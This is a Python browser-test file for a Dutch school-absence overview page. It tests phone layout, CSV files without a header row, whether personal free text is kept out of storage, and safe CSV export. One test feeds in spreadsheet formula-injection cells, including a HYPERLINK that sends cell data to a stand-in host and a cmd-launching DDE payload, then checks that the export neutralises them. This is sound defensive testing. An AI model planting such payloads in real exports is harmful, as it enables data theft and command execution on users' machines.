"""The Verzuimoverzicht as a verzuimcoördinator meets it (issues 21 and 17): on a 390 px phone, with a file
without a header row, a file whose reasons are free text (nothing personal remembered), hostile cells in the
CSV download, and the 16-uur calculator's table on a phone."""

from __future__ import annotations

import csv
import io
import json

import pytest

from calculators import csv_veilig
from calculators.overzicht import als_csv

from omgeving import START_MS, nieuwe_context
from test_verzuimoverzicht import (PAGINA, PEILDATUM, REGIO, cpython, kies, open_pagina, school_csv, wacht_op_antwoord,
                                  wacht_op_detail)

TELEFOON = {"width": 390, "height": 844}


@pytest.fixture
def telefoon(browser, base_url):
    c = nieuwe_context(browser, base_url, viewport=TELEFOON, reduced_motion="reduce", has_touch=True, is_mobile=True)
    p = c.new_page()
    p.fouten = []
    p.on("pageerror", lambda e: p.fouten.append(str(e)))
    yield p
    extern = c.verzoeken.extern
    c.close()
    assert not p.fouten, p.fouten
    assert not extern, extern


def _geen_zijwaartse_scroll(pagina) -> None:
    breed, scherm = pagina.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert breed <= scherm, f"de pagina is {breed} px breed op een scherm van {scherm} px"


def test_telefoon_geen_zijwaartse_scroll_en_details_tikbaar(telefoon, base_url, tmp_path):
    pad = tmp_path / "export.csv"
    pad.write_bytes(school_csv())
    open_pagina(telefoon, base_url)
    antwoord = kies(telefoon, pad)
    _geen_zijwaartse_scroll(telefoon)
    knoppen = telefoon.locator("button[data-actie=detail]")
    assert knoppen.count() == len(antwoord["leerlingen"])
    for i in range(knoppen.count()):
        knop = knoppen.nth(i)
        knop.scroll_into_view_if_needed()
        vak = knop.bounding_box()
        assert vak["x"] >= 0 and vak["x"] + vak["width"] <= TELEFOON["width"], vak
        assert vak["height"] >= 44  # a finger-sized target
    # Every pupil's next action and its date are on screen, not behind a sideways scroll.
    eerste = telefoon.locator(".vw-leerlingen tbody tr").first
    actie = eerste.locator("td[data-kop='Volgende actie']")
    vak = actie.bounding_box()
    assert vak["x"] + vak["width"] <= TELEFOON["width"]
    assert "uiterlijk" in actie.inner_text() or "verstreken" in actie.inner_text() or "nu" in actie.inner_text()
    # Tap (not click): the detail opens under the pupil, and the page still does not scroll sideways.
    knoppen.first.tap()
    assert knoppen.first.get_attribute("aria-expanded") == "true"
    wacht_op_detail(telefoon, knoppen.first)
    assert telefoon.locator(".vw-detail").first.is_visible()
    _geen_zijwaartse_scroll(telefoon)
    # The mapping's selects fit the screen.
    for keuze in telefoon.locator(".vw-koppeling select").all():
        vak = keuze.bounding_box()
        assert vak["x"] >= 0 and vak["x"] + vak["width"] <= TELEFOON["width"], vak
    # axe on the overview itself (the cards and the chips keep names, roles and contrast); Material's own
    # footer link has no visible text at this width, which is not this page's to fix
    from test_site import _axe

    assert _axe(telefoon, ".vw-overzicht") == []


def test_bestand_zonder_koprij_kolommen_kiezen(telefoon, base_url, tmp_path):
    regels = [f"987650011;{d:02d}-10-2025;{u};A;eigen tekst" for d in (1, 2, 3, 6, 7) for u in range(1, 5)]
    pad = tmp_path / "zonder-kop.csv"
    pad.write_text("\n".join(regels) + "\n", encoding="utf-8")
    open_pagina(telefoon, base_url)
    telefoon.wait_for_function("() => window.vwOverzicht")
    telefoon.set_input_files("#vwo-bestand", str(pad))
    koppeling = telefoon.locator(".vw-koppeling")
    koppeling.wait_for(state="visible", timeout=START_MS)
    assert "geen kopregel" in telefoon.locator(".vw-status").inner_text()
    assert telefoon.evaluate("document.activeElement.id") == "vwo-koppeling-kop"
    # The first rows, as they are in the file, and a labelled chooser per column.
    eerste = telefoon.get_by_role("region", name="De eerste regels van het bestand")
    assert "987650011" in eerste.inner_text() and "01-10-2025" in eerste.inner_text()
    for nummer, veld in ((1, "leerling"), (2, "datum"), (3, "lesuur"), (4, "code")):
        telefoon.get_by_role("combobox", name=f"Betekent Kolom {nummer}").select_option(veld)
    _geen_zijwaartse_scroll(telefoon)
    vorige = telefoon.evaluate("window.vwOverzicht.antwoorden")
    telefoon.get_by_role("button", name="Overzicht maken met deze kolommen").click()
    antwoord = wacht_op_antwoord(telefoon, vorige)
    invoer = telefoon.evaluate("window.vwOverzicht.invoer")
    assert invoer["kolommen"] == {"leerling": "1", "datum": "2", "lesuur": "3", "code": "4"}
    assert antwoord == cpython(invoer, pad.read_bytes())
    assert antwoord["leerlingen"][0]["leerling"] == "987650011"
    assert antwoord["leerlingen"][0]["meldingen"][0]["soort"] == "16_uur"
    # Remembered: column numbers (not values) and the code 'A' from the chosen code column.
    bewaard = json.loads(telefoon.evaluate("localStorage.getItem('verzuimwijzer-overzicht')"))
    assert bewaard["kolommen"] == invoer["kolommen"] and "987650011" not in json.dumps(bewaard)


# A school export without a code column: the reason is free text, and here it holds what must never be kept.
PERSOONLIJK = ["Jansen, Pieter", "123456782", "987650099", "Zorg: gesprek met moeder Fatima El Idrissi"]


def test_vrije_tekst_wordt_nooit_onthouden(pagina, base_url, tmp_path):
    buffer = io.StringIO()
    schrijver = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    schrijver.writerow(["Stamnr", "Datum", "Lesuur", "Reden"])
    for i, reden in enumerate(PERSOONLIJK):
        for u in range(1, 3):
            schrijver.writerow([f"98765002{i}", f"0{i + 1}-10-2025", str(u), reden])
    schrijver.writerow(["987650030", "06-10-2025", "1", "ZK"])
    pad = tmp_path / "vrije-tekst.csv"
    pad.write_bytes(buffer.getvalue().encode("utf-8"))
    open_pagina(pagina, base_url)
    antwoord = kies(pagina, pad)
    assert antwoord["bestand"]["codekolom"] is False
    # The user sorts every reason into a category, as the page asks; then computes again.
    for reden in PERSOONLIJK:
        pagina.get_by_role("combobox", name=f"Telt als {reden}").select_option("ongeoorloofd")
    vorige = pagina.evaluate("window.vwOverzicht.antwoorden")
    pagina.get_by_role("button", name="Opnieuw berekenen met deze koppeling").click()
    na = wacht_op_antwoord(pagina, vorige)
    assert {c["code"]: c["categorie"] for c in na["codes"]}[PERSOONLIJK[0]] == "ongeoorloofd"
    alles = pagina.evaluate("JSON.stringify(Object.assign({}, localStorage))")
    for waarde in PERSOONLIJK + ["Jansen", "Fatima", "123456782", "98765002"]:
        assert waarde not in alles, f"{waarde!r} in localStorage: {alles}"
    bewaard = json.loads(pagina.evaluate("localStorage.getItem('verzuimwijzer-overzicht')"))
    assert bewaard["codes"] == {} and bewaard["regio"] == REGIO
    # The page says what it keeps.
    assert "Vrije tekst" in pagina.locator("#vwo-onthouden").inner_text()


def test_opgeslagen_codes_zijn_gesnoeid_en_codevormig(pagina, base_url, tmp_path):
    """Codes from an older version (free text, a BSN) and codes this file does not use are dropped."""
    pagina.goto(base_url + PAGINA)
    pagina.evaluate("""localStorage.setItem('verzuimwijzer-overzicht', JSON.stringify({versie: 1,
        codes: {'Jansen, Pieter': 'ziek', '123456782': 'ziek', 'OUD': 'ziek', 'QZ': 'ongeoorloofd'}}))""")
    pagina.reload()
    pagina.wait_for_function("() => window.vwOverzicht && window.vwOverzicht.staat")  # settings restored
    pagina.select_option("#vwo-regio", REGIO)
    pagina.fill("#vwo-peildatum", PEILDATUM)
    pad = tmp_path / "export.csv"
    pad.write_bytes(school_csv())
    kies(pagina, pad)
    assert pagina.evaluate("window.vwOverzicht.invoer")["codes"] == {"OUD": "ziek", "QZ": "ongeoorloofd"}
    bewaard = json.loads(pagina.evaluate("localStorage.getItem('verzuimwijzer-overzicht')"))
    assert bewaard["codes"] == {"QZ": "ongeoorloofd"}


def test_csv_download_neutraliseert_formules(pagina, base_url, tmp_path):
    vijandig = [("=1+1", '=HYPERLINK("http://x.example/?d="&A1;"klik")', "+cmd|' /C calc'!A0"),
                ("-2+3", "\tTab Naam", "@SUM(1+1)"), ("987650040", "@SUM(A1)", "-5")]
    buffer = io.StringIO()
    schrijver = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    schrijver.writerow(["Stamnr", "Naam", "Klas", "Datum", "Lesuur", "Code"])
    for n, naam, klas in vijandig:
        for u in range(1, 4):
            schrijver.writerow([n, naam, klas, "01-10-2025", str(u), "A"])
    pad = tmp_path / "vijandig.csv"
    pad.write_bytes(buffer.getvalue().encode("utf-8"))
    open_pagina(pagina, base_url)
    antwoord = kies(pagina, pad)
    with pagina.expect_download() as download:
        pagina.get_by_role("button", name="Exporteer alle leerlingen als CSV (Excel)").click()
    tekst = download.value.path().read_bytes().decode("utf-8-sig")
    assert tekst == als_csv(antwoord)
    rijen = list(csv.reader(io.StringIO(tekst), delimiter=";"))
    for rij in rijen:
        for cel in rij:
            assert not cel.lstrip(" ").startswith(csv_veilig.GEVAARLIJK), cel
    assert {r[0] for r in rijen[1:]} == {"'=1+1", "'-2+3", "987650040"}
    assert "'=HYPERLINK(" in tekst and "'+cmd|" in tekst and "'@SUM(A1)" in tekst and "'-5" in tekst


def test_zestien_uur_tabel_past_op_een_telefoon(telefoon, base_url):
    """The 16-uur calculator's answer table: the deadline column is on screen at 390 px."""
    from browserhulp import bereken, vul_in, wacht_op_python

    telefoon.goto(base_url + "proef/melding_16_uur/")
    wacht_op_python(telefoon)
    vul_in(telefoon, "melding_16_uur", {"registraties": [{"datum": f"0{d}-03-2026", "uren": "4"} for d in range(2, 7)],
                                        "vakantieregio": "midden", "peildatum": "2026-03-09"})
    bereken(telefoon, "melding_16_uur")
    _geen_zijwaartse_scroll(telefoon)
    kop = telefoon.locator(".vw-antwoord th", has_text="Uiterlijk melden").first
    kop.scroll_into_view_if_needed()
    vak = kop.bounding_box()
    assert vak["x"] >= 0 and vak["x"] + vak["width"] <= TELEFOON["width"], vak


def test_vakantieregio_zegt_vooraf_wat_leeg_betekent(pagina, base_url, tmp_path):
    pagina.goto(base_url + PAGINA)
    pagina.wait_for_function("() => window.vwOverzicht && window.vwOverzicht.staat")  # the block is bound
    vr = pagina.locator("#vwo-vakantieregio")
    # 'Landelijk' (the default) has no vakantieregio: the field asks for one before any file is chosen.
    assert pagina.locator("#vwo-regio").input_value() == "landelijk"
    assert vr.get_attribute("aria-required") == "true"
    assert vr.locator("option[value='']").inner_text() == "Kies de vakantieregio van de school"
    assert "alle drie" not in pagina.locator("#vwo-vakantieregio-hulp").inner_text()
    pad = tmp_path / "export.csv"
    pad.write_bytes(school_csv())
    pagina.set_input_files("#vwo-bestand", str(pad))
    pagina.locator(".vw-overzicht-fouten").wait_for(state="visible", timeout=START_MS)
    assert vr.get_attribute("aria-invalid") == "true"
    assert "vakantieregio" in pagina.locator("#vwo-vakantieregio-fout").inner_text()
    # A region with its own vakantieregio: empty means that one, said in the option.
    pagina.select_option("#vwo-regio", REGIO)
    assert vr.get_attribute("aria-required") is None
    assert vr.locator("option[value='']").inner_text() == "Die van de regio (Midden)"
